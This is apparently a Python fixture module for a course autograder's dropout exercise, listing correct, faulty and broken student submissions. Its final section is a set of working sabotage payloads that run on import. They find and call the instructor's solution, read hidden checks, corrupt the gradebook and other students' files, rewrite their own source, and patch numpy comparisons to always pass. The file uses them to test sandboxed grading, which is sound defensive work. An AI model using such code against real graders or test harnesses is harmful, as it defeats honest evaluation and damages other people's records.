"""Submissions the hidden checks must judge right: correct alternatives and known faults.

Each variant is the instructor edition with some solution regions rewritten (and, where a
mistake lives in given code, a few edits), written out the way a student would hand it in:
no solution markers. ``expected`` maps every check the variant must fail to the mistake id
its message must name (None: no diagnosis expected); every other check must pass.
Used by tests/test_grading_faults.py, the end-to-end nbgrader tests and ``make demo``.
"""

import ast
import importlib.util
import shutil
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from coursekit.editions import BEGIN, INSTRUCTOR_PACKAGE, find_regions, write_student_edition
from coursekit.manifest import COURSE


def check_names(path):
    """The hidden checks a module defines (its top-level ``test_*`` functions), read without importing it."""
    tree = ast.parse(Path(path).read_text(encoding="utf-8"))
    return tuple(node.name for node in tree.body if isinstance(node, ast.FunctionDef) and node.name.startswith("test_"))


ASSIGNMENT = COURSE.task("fc_net").assignment  # the assignment these variants hand in
CHECKS = {task.id: check_names(task.checks_path)  # task -> its checks
          for task in COURSE.assignment_named(ASSIGNMENT).tasks}
TASK_OF_CHECK = {check: task for task, checks in CHECKS.items() for check in checks}
FORWARD, BACKWARD, NET = CHECKS["dropout_forward"], CHECKS["dropout_backward"], CHECKS["fc_net"]


@dataclass
class Variant:
    name: str
    description: str
    regions: dict = field(default_factory=dict)  # "function" or "function:n" (n-th region) -> code
    edits: list = field(default_factory=list)  # (file or "file:function", old text, new text), old text once there
    expected: dict = field(default_factory=dict)  # failing check -> mistake id or None
    kind: str = "code"  # code, student-edition, missing-package
    points: dict | None = None  # task -> points it must earn (wild entries state them; points.json has all)
    assignment: str = ASSIGNMENT  # nbgrader's assignment it is a submission of

    def build(self, folder):
        """Write this submission's source_pkg into ``folder``; returns ``folder``."""
        folder = Path(folder)
        folder.mkdir(parents=True, exist_ok=True)
        if self.kind == "missing-package":
            return folder
        if self.kind == "student-edition":
            write_student_edition(folder)
        else:
            _write_variant(self, folder / "source_pkg")
        for where, old, new in self.edits:
            file, _, function = where.partition(":")
            path = folder / "source_pkg" / file
            text = path.read_text()
            start, end = _function_span(text, function) if function else (0, len(text))
            if text[start:end].count(old) != 1:
                raise ValueError(f"variant {self.name}: {where} holds {text[start:end].count(old)} copies of {old!r}")
            path.write_text(text[:start] + text[start:end].replace(old, new) + text[end:])
        return folder


def _function_span(text, function):
    """(start, end) of the top-level ``def function`` in a module's text: where a scoped edit applies."""
    start = text.index(f"\ndef {function}(") + 1
    end = text.find("\ndef ", start)
    return start, len(text) if end < 0 else end


def _write_variant(variant, target):
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(INSTRUCTOR_PACKAGE, target, ignore=shutil.ignore_patterns("__pycache__"))
    used = set()
    for path in sorted(target.glob("*.py")):
        lines = path.read_text().splitlines(keepends=True)
        out, position, seen = [], 0, {}
        for region in find_regions(path):
            seen[region.function] = seen.get(region.function, 0) + 1
            key = next((k for k in (f"{region.function}:{seen[region.function]}", region.function)
                        if k in variant.regions), None)
            out.extend(lines[position:region.begin])
            if key is None:
                out.extend(lines[region.begin + 1:region.end])
            else:
                used.add(key)
                indent = BEGIN.match(lines[region.begin])["indent"]
                out.append(textwrap.indent(textwrap.dedent(variant.regions[key]).strip("\n") + "\n", indent))
            position = region.end + 1
        out.extend(lines[position:])
        path.write_text("".join(out))
    unused = set(variant.regions) - used
    if unused:
        raise ValueError(f"variant {variant.name}: no solution region named {sorted(unused)}")


def _all(checks, mistake=None):
    return {check: mistake for check in checks}


def _load_wild():
    """wild.py, loaded by path (as this module is loaded by classroom.py); its variants() takes ``Variant``."""
    spec = importlib.util.spec_from_file_location("dropout_fault_wild", Path(__file__).with_name("wild.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


_WILD = _load_wild()
GATED_ON_STATISTICS = _WILD.GATED_ON_STATISTICS


def _load_dropout2():
    """dropout2.py (the second assignment's entries), loaded by path as wild.py is."""
    spec = importlib.util.spec_from_file_location("dropout_fault_dropout2", Path(__file__).with_name("dropout2.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module




# Forward and backward written as a student might; the net regions use the helpers.
BOOL_MASK_FORWARD = """
    mask = np.random.rand(*x.shape) >= p
    out = x * mask / (1 - p)
"""
BOOL_MASK_BACKWARD = """
    dx = dout * mask / (1 - dropout_param["p"])
"""
NET_FORWARD_DICT = """
    if self.use_dropout:
        self.dropout_param["mode"] = mode
    for layer in range(1, self.num_layers):
        h, layer_cache = self._hidden_layer_forward(h, layer)
        drop_cache = None
        if self.use_dropout and mode == "train":
            h, drop_cache = dropout_forward(h, self.dropout_param)
        caches.append({"layer": layer_cache, "dropout": drop_cache})
"""
NET_BACKWARD_DICT = """
    for layer in reversed(range(1, L)):
        if caches[layer - 1]["dropout"] is not None:
            dh = dropout_backward(dh, caches[layer - 1]["dropout"])
        dh = self._hidden_layer_backward(dh, caches[layer - 1]["layer"], layer, grads)
"""
NET_FORWARD_NO_DROPOUT = """
    for i in range(1, self.num_layers):
        h, cache = self._hidden_layer_forward(h, i)
        caches.append((cache, None))
"""
NET_BACKWARD_NO_DROPOUT = """
    for i in range(L - 1, 0, -1):
        dh = self._hidden_layer_backward(dh, caches[i - 1][0], i, grads)
"""
# Dropout between batch norm (or the affine layer) and the ReLU.
NET_FORWARD_BEFORE_RELU = """
    from .layers import batchnorm_forward, relu_forward
    if self.use_dropout:
        self.dropout_param["mode"] = mode
    for i in range(1, self.num_layers):
        a, fc_cache = affine_forward(h, self.params[f"W{i}"], self.params[f"b{i}"])
        bn_cache = drop_cache = None
        if self.use_batchnorm:
            a, bn_cache = batchnorm_forward(a, self.params[f"gamma{i}"], self.params[f"beta{i}"],
                                            self.bn_params[i - 1])
        if self.use_dropout:
            a, drop_cache = dropout_forward(a, self.dropout_param)
        h, relu_cache = relu_forward(a)
        caches.append((fc_cache, bn_cache, drop_cache, relu_cache))
"""
NET_BACKWARD_BEFORE_RELU = """
    from .layers import batchnorm_backward, relu_backward
    for i in range(L - 1, 0, -1):
        fc_cache, bn_cache, drop_cache, relu_cache = caches[i - 1]
        dh = relu_backward(dh, relu_cache)
        if self.use_dropout:
            dh = dropout_backward(dh, drop_cache)
        if self.use_batchnorm:
            dh, grads[f"gamma{i}"], grads[f"beta{i}"] = batchnorm_backward(dh, bn_cache)
        dh, grads[f"W{i}"], grads[f"b{i}"] = affine_backward(dh, fc_cache)
"""

CORRECT = [
    Variant("reference", "the instructor edition, markers removed"),
    Variant("bool-mask", "boolean mask, scale applied in forward and backward",
            regions={"dropout_forward": BOOL_MASK_FORWARD, "dropout_backward": BOOL_MASK_BACKWARD}),
    Variant("binomial", "np.random.binomial mask",
            regions={"dropout_forward": """
                mask = np.random.binomial(1, 1 - p, size=x.shape)
                out = x * mask / (1 - p)
            """, "dropout_backward": """
                keep_probability = 1 - dropout_param["p"]
                dx = dout * mask / keep_probability
            """}),
    Variant("default-rng", "np.random.default_rng seeded from dropout_param, np.where",
            regions={"dropout_forward": """
                rng = np.random.default_rng(dropout_param.get("seed"))
                mask = rng.random(x.shape) >= p
                out = np.where(mask, x / (1 - p), 0)
            """, "dropout_backward": """
                dx = np.where(mask, dout / (1 - dropout_param["p"]), 0)
            """}),
    Variant("float32-prescaled", "pre-scaled mask in the input's dtype; net with a dict cache and no test-mode call",
            regions={"dropout_forward": """
                mask = (np.random.uniform(size=x.shape) > p).astype(x.dtype) / x.dtype.type(1 - p)
                out = mask * x
            """, "dropout_backward": "dx = mask * dout",
                     "FullyConnectedNet.loss:1": NET_FORWARD_DICT, "FullyConnectedNet.loss:2": NET_BACKWARD_DICT}),
    Variant("warns", "correct, but prints a warning and writes to stderr on every call",
            regions={"dropout_forward": """
                import sys, warnings
                warnings.warn("drawing a dropout mask")
                print("dropout_forward called", file=sys.stderr)
                mask = (np.random.rand(*x.shape) < 1 - p) / (1 - p)
                out = x * mask
            """}),
]

FAULTS = [
    Variant("keep-drop-swapped", "keeps each unit with probability p",
            regions={"dropout_forward": """
                mask = (np.random.rand(*x.shape) < p) / p
                out = x * mask
            """},
            expected=_all(GATED_ON_STATISTICS, "keep-drop-swapped")),
    Variant("survivors-not-scaled", "zeroes the dropped units but never scales the kept ones",
            regions={"dropout_forward": """
                mask = np.random.rand(*x.shape) < 1 - p
                out = x * mask
            """},
            expected=_all(GATED_ON_STATISTICS, "survivors-not-scaled")),
    Variant("vanilla-dropout", "vanilla dropout: unscaled in training, scaled by 1 - p at test time",
            regions={"dropout_forward": """
                mask = np.random.rand(*x.shape) < 1 - p
                out = x * mask
            """},
            edits=[("layers.py:dropout_forward", "        out = x.copy()\n", "        out = x * (1 - p)\n")],
            expected={"test_train_statistics": "scaled-at-test-time", "test_train_values": "scaled-at-test-time",
                      "test_test_mode_identity": "scaled-at-test-time"}),
    Variant("active-in-test-mode", "draws a mask in both modes",
            edits=[("layers.py:dropout_forward", '    if mode == "train":\n        # Task: draw', '    if True:\n        # Task: draw')],
            expected={"test_test_mode_identity": "active-in-test-mode"}),
    Variant("seed-ignored", "an unseeded default_rng: the seed has no effect",
            regions={"dropout_forward": """
                rng = np.random.default_rng()
                mask = (rng.random(x.shape) < 1 - p) / (1 - p)
                out = x * mask
            """},
            expected={"test_seed_makes_mask_reproducible": "seed-ignored",
                      "test_backward_matches_numeric_gradient": "seed-ignored"}),
    Variant("new-mask-in-backward", "draws a fresh mask in the backward pass",
            regions={"dropout_backward": """
                keep = 1 - dropout_param["p"]
                dx = dout * (np.random.rand(*dout.shape) < keep) / keep
            """},
            expected={"test_backward_reuses_forward_mask": "new-mask-in-backward",
                      "test_backward_matches_numeric_gradient": "new-mask-in-backward"}),
    Variant("backward-missing-scale", "boolean mask, scaled in forward only",
            regions={"dropout_forward": BOOL_MASK_FORWARD, "dropout_backward": "dx = dout * mask"},
            expected={"test_backward_reuses_forward_mask": "backward-missing-scale",
                      "test_backward_matches_numeric_gradient": "backward-missing-scale"}),
    Variant("dtype-changed", "returns float64 for float32 input",
            edits=[("layers.py:dropout_forward", "    out = out.astype(x.dtype, copy=False)\n", "")],
            expected={"test_shape_and_dtype_kept": "dtype-changed"}),
    Variant("input-modified", "multiplies x in place",
            regions={"dropout_forward": """
                mask = (np.random.rand(*x.shape) < 1 - p) / (1 - p)
                x *= mask
                out = x
            """},
            expected={"test_input_not_modified": "input-modified"}),
    Variant("mask-shared-across-batch", "one mask row broadcast over the batch",
            regions={"dropout_forward": """
                mask = (np.random.rand(*x.shape[1:]) < 1 - p) / (1 - p)
                out = x * mask
            """},
            # 500 draws instead of 250,000: the zero fraction strays beyond the bound too.
            expected={"test_masks_independent": "mask-shared-across-batch", "test_train_statistics": None,
                      "test_test_mode_identity": None}),
    Variant("mask-shared-across-units", "one keep/drop decision per example",
            regions={"dropout_forward": """
                mask = (np.random.rand(x.shape[0], *([1] * (x.ndim - 1))) < 1 - p) / (1 - p)
                out = x * mask
            """},
            expected={"test_masks_independent": "mask-shared-across-units", "test_train_statistics": None,
                      "test_test_mode_identity": None}),
    Variant("dropout-not-applied", "the net never calls dropout",
            regions={"FullyConnectedNet.loss:1": NET_FORWARD_NO_DROPOUT,
                     "FullyConnectedNet.loss:2": NET_BACKWARD_NO_DROPOUT},
            expected={"test_loss_with_dropout": "dropout-not-applied",
                      "test_gradients_with_dropout": "dropout-not-applied",
                      "test_dropout_after_each_relu": "dropout-not-applied"}),
    Variant("dropout-before-relu", "dropout between the affine (or batch norm) layer and the ReLU",
            regions={"FullyConnectedNet.loss:1": NET_FORWARD_BEFORE_RELU,
                     "FullyConnectedNet.loss:2": NET_BACKWARD_BEFORE_RELU},
            # relu(m * a) = m * relu(a) for m >= 0: outputs and gradients agree, the placement does not.
            expected={"test_dropout_after_each_relu": "dropout-misplaced"}),
    Variant("dropout-after-last-layer", "also drops class scores",
            edits=[("fc_net.py",
                    '        scores, last_cache = affine_forward(h, self.params[f"W{L}"], self.params[f"b{L}"])\n',
                    '        scores, last_cache = affine_forward(h, self.params[f"W{L}"], self.params[f"b{L}"])\n'
                    '        if self.use_dropout:\n'
                    '            scores, scores_dropout = dropout_forward(scores, self.dropout_param)\n'),
                   ("fc_net.py",
                    '        dh, grads[f"W{L}"], grads[f"b{L}"] = affine_backward(dscores, last_cache)\n',
                    '        if self.use_dropout:\n'
                    '            dscores = dropout_backward(dscores, scores_dropout)\n'
                    '        dh, grads[f"W{L}"], grads[f"b{L}"] = affine_backward(dscores, last_cache)\n')],
            expected={"test_loss_with_dropout": "dropout-after-last-layer",
                      "test_gradients_with_dropout": "dropout-after-last-layer",
                      "test_dropout_after_each_relu": "dropout-after-last-layer"}),
    Variant("net-not-in-test-mode", "never switches dropout to test mode",
            regions={"FullyConnectedNet.loss:1": """
                for i in range(1, self.num_layers):
                    h, cache = self._hidden_layer_forward(h, i)
                    dropout_cache = None
                    if self.use_dropout:
                        h, dropout_cache = dropout_forward(h, self.dropout_param)
                    caches.append((cache, dropout_cache))
            """},
            expected={"test_test_mode_is_deterministic_and_dropout_free": "net-not-in-test-mode"}),
    Variant("backward-skips-dropout", "the net's backward pass skips dropout_backward",
            regions={"FullyConnectedNet.loss:2": """
                for i in range(L - 1, 0, -1):
                    dh = self._hidden_layer_backward(dh, caches[i - 1][0], i, grads)
            """},
            expected={"test_gradients_with_dropout": "backward-skips-dropout"}),
]

# Submissions that break in other ways: raising, hanging, dying, not importing, attacking the checks.
BROKEN = [
    Variant("student-edition", "the release, untouched", kind="student-edition",
            # The backward's forward call raises too, so nothing shows the backward is unwritten.
            expected=_all(FORWARD + BACKWARD + NET)),
    Variant("missing-package", "a notebook without its source_pkg", kind="missing-package",
            expected=_all(FORWARD + BACKWARD + NET)),
    Variant("syntax-error", "layers.py does not parse",
            edits=[("layers.py", "def dropout_backward(dout, cache):\n", "def dropout_backward(dout, cache)\n")],
            expected=_all(FORWARD + BACKWARD + NET)),
    Variant("backward-raises", "dropout_backward raises",
            regions={"dropout_backward": 'raise ValueError("not finished")'}, expected=_all(BACKWARD)),
    Variant("backward-crashes", "dropout_backward ends its process",
            regions={"dropout_backward": "import os\nos._exit(3)"}, expected=_all(BACKWARD)),
    Variant("forward-hangs", "dropout_forward loops forever in train mode",
            regions={"dropout_forward": "while True:\n    pass"},
            expected={check: None for check in FORWARD + BACKWARD}),
    Variant("patches-checks", "the untouched stubs, plus module-level patches of numpy and builtins",
            edits=[("layers.py", "import numpy as np\n",
                    "import builtins\nimport numpy as np\n\n"
                    "np.allclose = lambda *args, **kwargs: True\nnp.array_equal = lambda *args, **kwargs: True\n"
                    "builtins.abs = lambda value: 0\n")],
            regions={"dropout_forward": 'raise NotImplementedError("dropout_forward")',
                     "dropout_backward": 'raise NotImplementedError("dropout_backward")'},
            expected=_all(FORWARD + BACKWARD)),
]


WILD_CORRECT, WILD_FAULTS = _WILD.variants(Variant)
CORRECT += WILD_CORRECT
FAULTS += WILD_FAULTS

ALL = CORRECT + FAULTS + BROKEN
BY_NAME = {variant.name: variant for variant in ALL}


# dropout2's entries, submissions of the second assignment: judged by tests/test_dropout2_faults.py
# on its own tasks, not part of ALL. Each leaves the first assignment's regions as the reference.
DROPOUT2 = _load_dropout2()
DROPOUT2_ASSIGNMENT = COURSE.task("spatial_dropout").assignment


def _dropout2_variant(*args, **kwargs):
    return Variant(*args, assignment=DROPOUT2_ASSIGNMENT, **kwargs)


DROPOUT2_CORRECT_SPATIAL, DROPOUT2_FAULTS_SPATIAL, DROPOUT2_CORRECT_MC, DROPOUT2_FAULTS_MC = \
    DROPOUT2.variants(_dropout2_variant)
DROPOUT2_CHECKS = {task.id: check_names(task.checks_path) for task in COURSE.assignment_named(DROPOUT2_ASSIGNMENT).tasks}
DROPOUT2_STUDENT_EDITION = _dropout2_variant(
    "d2-student-edition", "the release of dropout2, untouched", kind="student-edition",
    expected=_all(DROPOUT2_CHECKS["spatial_dropout"] + DROPOUT2_CHECKS["mc_dropout"]),
    points={"spatial_dropout": 0, "mc_dropout": 0})
DROPOUT2_ALL = (DROPOUT2_CORRECT_SPATIAL + DROPOUT2_FAULTS_SPATIAL + DROPOUT2_CORRECT_MC + DROPOUT2_FAULTS_MC
                + [DROPOUT2_STUDENT_EDITION])
DROPOUT2_BY_NAME = {variant.name: variant for variant in DROPOUT2_ALL}


# Submissions that attack the grading itself (issue: sandboxed grading). Each carries module-level
# code in layers.py that runs wherever the package is imported (the notebook's kernel, the
# checks' runner) and notes what it managed in ATTACK_REPORT in its working folder when it can.
# ``baseline`` names the same submission without the attack: the scores must be equal.
ATTACK_REPORT = "attack-report.txt"
_REPORT = f"""
def _attack_report(line):
    try:
        with open({ATTACK_REPORT!r}, "a") as report:
            report.write(line + "\\n")
    except OSError:
        pass
"""
_FIND_SOLUTION = _REPORT + """
def _find_instructor_layers():
    import os
    skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/var", "/boot", "/run")
    for top in ("/work", "/tmp", "/root", "/home", "/srv", "/opt"):
        for folder, subfolders, files in os.walk(top):
            if folder.startswith(skip) or "site-packages" in folder or folder.count("/") > 6:
                subfolders[:] = []
                continue
            subfolders[:] = [name for name in subfolders if not name.startswith(".")]
            if "layers.py" in files and os.path.basename(folder) == "source_pkg":
                path = os.path.join(folder, "layers.py")
                if os.path.realpath(path) == os.path.realpath(__file__):
                    continue
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if "### BEGIN " + "SOLUTION" in text:
                    return path
    return None


def _delegate_to_instructor():
    import importlib.util
    path = _find_instructor_layers()
    _attack_report(f"instructor layers.py: {path or 'not found'}")
    if path:
        spec = importlib.util.spec_from_file_location("_instructor_layers", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module
    return None
"""
DELEGATE = _FIND_SOLUTION + """

_instructor = _delegate_to_instructor()
"""
DELEGATE_FORWARD = """
if _instructor is not None:
    return _instructor.dropout_forward(x, dropout_param)
raise NotImplementedError("dropout_forward")
"""
DELEGATE_BACKWARD = """
if _instructor is not None:
    return _instructor.dropout_backward(dout, cache)
raise NotImplementedError("dropout_backward")
"""
READ_CHECKS = _REPORT + """

def _read_hidden_checks():
    import glob
    found = glob.glob("/**/tests/hidden/*/test_*.py", recursive=False)
    for guess in ("/work/main/tests/hidden/dropout_forward/test_dropout_forward.py",
                  "../../../../tests/hidden/dropout_forward/test_dropout_forward.py",
                  "../../../tests/hidden/dropout_forward/test_dropout_forward.py"):
        try:
            text = open(guess).read()
            found.append(guess)
            _attack_report(f"hidden checks read from {guess}: {len(text)} characters")
        except OSError:
            pass
    if not found:
        _attack_report("hidden checks: not found")


_read_hidden_checks()
"""
TAMPER = _REPORT + """

def _tamper():
    import os
    import sqlite3
    here = os.path.realpath(os.getcwd())
    root = os.path.dirname(os.path.dirname(os.path.dirname(here)))
    gradebook = os.path.join(root, "gradebook.db")
    if os.path.isfile(gradebook):
        try:
            db = sqlite3.connect(gradebook)
            db.execute("UPDATE grade SET auto_score = 0")
            db.commit()
            db.close()
            _attack_report("gradebook: scores rewritten")
        except Exception as error:
            _attack_report(f"gradebook: {error}")
        try:
            with open(gradebook, "ab") as file:
                file.write(b"garbage")
            _attack_report("gradebook: appended")
        except OSError as error:
            _attack_report(f"gradebook: {error}")
    else:
        _attack_report("gradebook: not found")
    for step in ("submitted", "autograded"):
        folder = os.path.join(root, step)
        if not os.path.isdir(folder):
            _attack_report(f"{step}: not found")
            continue
        for student in os.listdir(folder):
            target = os.path.join(folder, student, "dropout", "source_pkg", "layers.py")
            if os.path.realpath(target).startswith(here) or not os.path.isfile(target):
                continue
            try:
                with open(target, "a") as file:
                    file.write("\\nraise SystemExit('tampered')\\n")
                _attack_report(f"tampered with {target}")
            except OSError as error:
                _attack_report(f"{target}: {error}")


_tamper()
"""
REWRITE_SELF = _REPORT + """

def _rewrite_myself():
    import os
    path = os.path.abspath(__file__)
    try:
        text = open(path).read()
        stub = "raise NotImplementedError(" + '"dropout_{}")'  # not spelled out: this code must survive
        fixed = text.replace(stub.format("forward"),
                             'mask = (np.random.rand(*x.shape) >= p) / (1 - p)\\n        out = x * mask')
        fixed = fixed.replace(stub.format("backward"), 'dx = dout * mask')
        if fixed != text:
            with open(path, "w") as file:
                file.write(fixed)
            _attack_report(f"rewrote {path}")
    except OSError as error:
        _attack_report(f"could not rewrite {path}: {error}")


_rewrite_myself()
"""
PATCH_CHECKERS = """
import builtins as _builtins

np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
_builtins.abs = lambda value: 0
"""
# Wrong but non-raising code: in the student's kernel, patched comparisons make it look right.
IDENTITY_FORWARD = "out = x.copy()\nmask = np.ones_like(x)"
STUBS = {"dropout_forward": 'raise NotImplementedError("dropout_forward")',
         "dropout_backward": 'raise NotImplementedError("dropout_backward")'}


def _prelude(code):
    return [("layers.py", "import numpy as np\n", "import numpy as np\n" + code + "\n")]


ATTACKS = [
    Variant("stubs", "the exercise regions left as stubs (baseline of the attacks)", regions=dict(STUBS),
            expected=_all(FORWARD + BACKWARD)),
    Variant("attack-delegate", "finds the instructor's layers.py on disk and calls it", edits=_prelude(DELEGATE),
            regions={"dropout_forward": DELEGATE_FORWARD, "dropout_backward": DELEGATE_BACKWARD},
            expected=_all(FORWARD + BACKWARD)),
    Variant("attack-read-checks", "reads the hidden checks", edits=_prelude(READ_CHECKS), regions=dict(STUBS),
            expected=_all(FORWARD + BACKWARD)),
    Variant("attack-tamper", "writes to the gradebook and to other students' folders", edits=_prelude(TAMPER),
            regions=dict(STUBS),
            expected=_all(FORWARD + BACKWARD)),
    Variant("attack-rewrite-self", "rewrites its own package when imported", edits=_prelude(REWRITE_SELF),
            regions=dict(STUBS),
            expected=_all(FORWARD + BACKWARD)),
    Variant("identity-forward", "forward returns x in both modes (baseline of attack-patch)",
            regions={"dropout_forward": IDENTITY_FORWARD},
            expected={**_all(FORWARD, "drops-nothing"), **_all(BACKWARD[:2])}),
    Variant("attack-patch", "forward returns x; numpy's and Python's comparisons patched at import",
            edits=_prelude(PATCH_CHECKERS), regions={"dropout_forward": IDENTITY_FORWARD},
            expected={**_all(FORWARD, "drops-nothing"), **_all(BACKWARD[:2])}),
]
BASELINES = {"attack-delegate": "stubs", "attack-read-checks": "stubs", "attack-tamper": "stubs",
             "attack-rewrite-self": "stubs", "attack-patch": "identity-forward"}
BY_NAME.update({variant.name: variant for variant in ATTACKS})
